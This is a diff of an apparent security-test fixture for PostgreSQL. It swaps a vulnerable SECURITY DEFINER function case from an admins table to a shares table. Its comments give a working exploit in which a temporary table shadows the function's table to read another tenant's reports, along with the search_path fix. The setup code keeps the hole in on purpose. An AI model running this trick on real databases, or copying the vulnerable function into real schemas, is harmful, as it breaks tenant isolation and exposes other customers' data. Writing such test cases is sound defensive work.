@@ -1,17 +1,17 @@
 -- verdict: leak
 -- kind: secdef-mutable-search-path
--- object: public.all_reports
--- why: the function has no search_path of its own: the caller's temporary table named like its list of admins answers first
+-- object: public.shared_reports
+-- why: the function has no search_path of its own: the caller's temporary table named like its table of shares answers first
 -- severity: high
 -- roles: app_owner app_user
 -- exploit-begin
--- create temp table admins (name text);
--- grant select on admins to public;
--- insert into admins values ('me');
--- select exists (select 1 from all_reports('me') where tenant_id = '00000000-0000-4000-8000-00000000000a') as leaked;
+-- create temp table shares (viewer uuid, target uuid);
+-- grant select on shares to public;
+-- insert into shares values ('00000000-0000-4000-8000-00000000000b', '00000000-0000-4000-8000-00000000000a');
+-- select exists (select 1 from shared_reports() where tenant_id = '00000000-0000-4000-8000-00000000000a') as leaked;
 -- exploit-end
 -- fix-begin
--- alter function all_reports(text) set search_path = pg_catalog, public, pg_temp;
+-- alter function shared_reports() set search_path = pg_catalog, public, pg_temp;
 -- fix-end
 
 do $$ begin
@@ -32,8 +32,9 @@ insert into reports (tenant_id, body) values ('00000000-0000-4000-8000-000000000
 alter table reports enable row level security;
 create policy tenant_isolation on reports using (tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid) with check (tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid);
 grant select, insert, update, delete on reports to app_user;
-create table admins (name text primary key);
-create function all_reports(p_name text) returns setof reports language sql stable security definer as $$
-  select r.* from public.reports r where r.tenant_id = nullif(current_setting('app.tenant_id', true), '')::uuid or exists (select 1 from admins a where a.name = p_name)
+create table shares (viewer uuid not null references tenants (id), target uuid not null references tenants (id), primary key (viewer, target));
+insert into shares values ('00000000-0000-4000-8000-00000000000a', '00000000-0000-4000-8000-00000000000a'), ('00000000-0000-4000-8000-00000000000b', '00000000-0000-4000-8000-00000000000b');
+create function shared_reports() returns setof reports language sql stable security definer as $$
+  select r.* from public.reports r join shares s on s.target = r.tenant_id where s.viewer = nullif(current_setting('app.tenant_id', true), '')::uuid
 $$;
 reset role;
